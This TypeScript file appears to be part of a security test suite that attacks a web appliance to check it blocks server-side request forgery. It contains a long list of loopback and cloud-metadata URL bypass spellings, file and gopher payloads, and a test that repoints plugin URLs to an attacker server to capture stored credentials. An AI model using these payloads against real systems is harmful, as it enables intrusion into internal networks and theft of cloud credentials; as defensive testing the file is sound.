import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { Attack } from "./attack.ts";
import type { AttackWorld, Received } from "./attack-world.ts";

/** Servers of this machine and of cloud providers that only the machine itself may ask, in every spelling known. */
const inside = (port: number): string[] => [
  `http://127.0.0.1:${port}/`,
  `http://localhost:${port}/`,
  `http://localhost.:${port}/`,
  `http://127.1:${port}/`,
  `http://0:${port}/`,
  `http://0.0.0.0:${port}/`,
  `http://0x7f.0.0.1:${port}/`,
  `http://0x7f000001:${port}/`,
  `http://2130706433:${port}/`,
  `http://017700000001:${port}/`,
  `http://127.0.0.1.:${port}/`,
  `http://127。0。0。1:${port}/`,
  `http://①②⑦.0.0.1:${port}/`,
  `http://[::1]:${port}/`,
  `http://[::]:${port}/`,
  `http://[::ffff:127.0.0.1]:${port}/`,
  `http://[::ffff:7f00:1]:${port}/`,
  `http://[0:0:0:0:0:ffff:127.0.0.1]:${port}/`,
  `http://[64:ff9b::127.0.0.1]:${port}/`,
  `http://[::127.0.0.1]:${port}/`,
  `http://evil.example@127.0.0.1:${port}/`,
  `http://127.0.0.1:${port}\\@evil.example/`,
  `http://127.0.0.1:${port}#@evil.example/`,
  "http://169.254.169.254/latest/meta-data/",
  "http://[::ffff:169.254.169.254]/latest/meta-data/",
  "http://2852039166/latest/meta-data/",
  "http://[fd00:ec2::254]/latest/meta-data/",
  "http://100.100.100.200/latest/meta-data/",
  "http://168.63.129.16/metadata/",
  "http://192.0.0.192/opc/v1/instance/",
  "http://metadata.google.internal/computeMetadata/v1/",
  "file:///etc/passwd",
  "gopher://127.0.0.1:25/",
  "ftp://127.0.0.1/",
  "data:text/calendar,BEGIN:VCALENDAR",
  "unix:/run/systemd/notify",
  "javascript:alert(1)",
];

/** A server on loopback that only the machine itself should reach; counts what comes. */
async function withVictim<T>(work: (port: number, caught: string[]) => Promise<T>): Promise<T> {
  const caught: string[] = [];
  const victim = createServer((request, response) => {
    caught.push(`${request.method} ${request.url}`);
    response.end("the victim's secret 4711");
  });
  await new Promise<void>((resolve) => victim.listen(0, "127.0.0.1", resolve));
  try {
    return await work((victim.address() as AddressInfo).port, caught);
  } finally {
    victim.closeAllConnections();
    victim.close();
  }
}

const counted = (answers: readonly Received[]): string => {
  const taken = answers.filter(({ status }) => status < 300).length;
  return `${answers.length - taken} refused when given, ${taken} when called`;
};

/** Webhooks: not even an administrator may have the appliance call what is inside. */
function webhooksInside(world: AttackWorld) {
  return withVictim(async (port, caught) => {
    const targets = [...inside(port), `${world.attackerUrl}/?to=${encodeURIComponent(`http://127.0.0.1:${port}/`)}`];
    const answers: Received[] = [];
    for (const [at, url] of targets.entries()) {
      const json = { name: `inside ${at}`, spec: "/distribution-lists/*", type: "webhook", url };
      answers.push(await world.ask("POST", "/triggers", { token: world.first.token, json }));
    }
    await world.ask("POST", "/distribution-lists", {
      token: world.first.token,
      json: { name: "fires the webhooks" },
    });
    const reasons = await outcomes(world, answers);
    for (const { status, body } of answers)
      if (status < 300) await world.ask("DELETE", `/triggers/${body.id}`, { token: world.first.token });
    return {
      answered: counted(answers),
      gains: [
        ...(world.caught.length > 0 ? [] : ["proves nothing: the attacker's own server got no webhook"]),
        ...caught.map((line) => `${line} reached a server inside`),
        ...reasons.filter((reason) => /ECONNREFUSED|4711|timed out/.test(reason)).map((reason) => `told: ${reason}`),
      ],
    };
  });
}

/** Waits until each webhook that was taken has been tried; resolves with what its owner reads. */
async function outcomes(world: AttackWorld, answers: readonly Received[]): Promise<string[]> {
  const reasons: string[] = [];
  for (const { status, body } of answers) {
    if (status >= 300) continue;
    for (let tries = 0; tries < 100; tries++) {
      const { data } = (await world.ask("GET", `/triggers/${body.id}/deliveries`, { token: world.first.token })).body;
      const tried = (data as { attempts: number; reason: string | null }[] | undefined)?.find(
        ({ attempts }) => attempts > 0,
      );
      if (tried) reasons.push(tried.reason ?? "");
      if (tried) break;
      await pause(100);
    }
  }
  return reasons;
}

/** Calendars by URL, which are fetched at once. */
function calendarsInside(world: AttackWorld) {
  return withVictim(async (port, caught) => {
    const answers: Received[] = [];
    const gains: string[] = [];
    for (const [at, url] of inside(port).entries()) {
      const json = { name: `inside ${at}`, url };
      const answer = await world.ask("POST", "/calendar-subscriptions", { token: world.manager.token, json });
      answers.push(answer);
      if (answer.text.includes("4711")) gains.push("the answer of a server inside was told");
      if (answer.status < 300) {
        await world.ask("POST", `/calendar-subscriptions/${answer.body.id}/refresh`, { token: world.manager.token });
        await world.ask("DELETE", `/calendar-subscriptions/${answer.body.id}`, { token: world.manager.token });
      }
    }
    return {
      answered: counted(answers),
      gains: [...gains, ...caught.map((line) => `${line} reached a server inside`)],
    };
  });
}

/** A kept secret follows a changed address. */
async function moveSecret(world: AttackWorld) {
  const { token } = world.first;
  const list = await world.ask("GET", "/extensions?limit=100", { token });
  const gains: string[] = [];
  const statuses: number[] = [];
  for (const { id, name, config } of list.body.data as {
    id: string;
    name: string;
    config: Record<string, unknown>;
  }[]) {
    const schema = Object.keys(config ?? {}).filter((key) => /url|host|server/i.test(key));
    for (const key of schema) {
      const answer = await world.ask("PUT", `/extensions/${id}`, {
        token,
        json: { config: { ...config, [key]: world.attackerUrl } },
      });
      statuses.push(answer.status);
      if (answer.status < 300 && JSON.stringify(answer.body).includes("********")) gains.push(`${name}: ${key}`);
    }
  }
  const reached = world.caught.filter(({ headers }) => headers.authorization !== undefined);
  return {
    answered: [...new Set(statuses)].join(", ") || "no plugin keeps one yet",
    gains: [...gains, ...reached.map(({ line }) => `${line} came with credentials`)],
  };
}

export const OUTBOUND_ATTACKS: readonly Attack[] = [
  { by: "administrator", what: "adds webhooks that lead inside (SSRF)", run: webhooksInside },
  { by: "manager of North", what: "subscribes to calendars that lie inside (SSRF)", run: calendarsInside },
  { by: "manager of North", what: "moves a plugin with a kept secret to another server", run: moveSecret },
];
